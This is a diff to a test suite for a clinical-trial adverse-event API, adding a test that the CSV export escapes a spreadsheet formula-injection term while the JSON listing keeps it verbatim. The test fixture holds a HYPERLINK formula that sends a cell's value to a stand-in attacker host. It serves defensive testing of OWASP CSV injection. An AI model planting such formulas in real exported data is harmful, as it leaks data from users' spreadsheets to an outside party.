@@ -38,6 +38,9 @@ const BRUISING = {
   sponsorCausality: 'probably',
 };
 
+/** A verbatim term a spreadsheet would run as a formula (OWASP CSV injection); this AE has a negative AESTDY. */
+const MALICIOUS_TERM = '=HYPERLINK("https://evil.example/?leak="&B2,"Facial rash")';
+
 const visits: InputCloudEvent<unknown>[] = [
   cellKine.enrolled(S1, '2021-01-04'),
   cellKine.treated(S1, '2021-01-11'),
@@ -52,7 +55,7 @@ const visits: InputCloudEvent<unknown>[] = [
 const adverseEvents: InputCloudEvent<unknown>[] = [
   ae(
     'CK-001-AE-03',
-    { term: 'Facial rash', meddra: { pt: 'Rash', soc: 'Skin and subcutaneous tissue disorders' }, onsetDate: '2021-01-08' },
+    { term: MALICIOUS_TERM, meddra: { pt: 'Rash', soc: 'Skin and subcutaneous tissue disorders' }, onsetDate: '2021-01-08' },
     at('2021-01-11', '09:00'),
   ),
   ae('CK-001-AE-01', {}, at('2021-01-13', '10:00')),
@@ -152,6 +155,16 @@ describe('AE listing and subject timeline (built apps, real broker)', () => {
       );
       expect(response.text.endsWith('EXPECTED\r\n') || response.text.endsWith('UNEXPECTED\r\n')).toBe(true);
       expect((await get('/adverse-events?format=csv', sponsor)).text).toBe(response.text);
+    });
+
+    it('escapes a formula-like verbatim term in the CSV (OWASP) and keeps a negative AESTDY a number', async () => {
+      const lines = (await get('/adverse-events?format=csv')).text.split('\r\n');
+      expect(lines[1]).toBe(
+        'NCT04410731,NCT04410731-CK-001,CK-001-AE-03,"\'=HYPERLINK(""https://evil.example/?leak=""&B2,""Facial rash"")",Rash,' +
+          'Skin and subcutaneous tissue disorders,N,N,N,N,N,N,N,NOT RELATED,,1,RECOVERING/RESOLVING,2021-01-08,,-3,1,EXPECTED',
+      );
+      // The JSON listing is not a spreadsheet: it keeps the term verbatim.
+      expect((await get('/adverse-events')).body.items[0].AETERM).toBe(MALICIOUS_TERM);
     });
 
     it('as of a past moment shows the versions known then, and an AE nullified later', async () => {
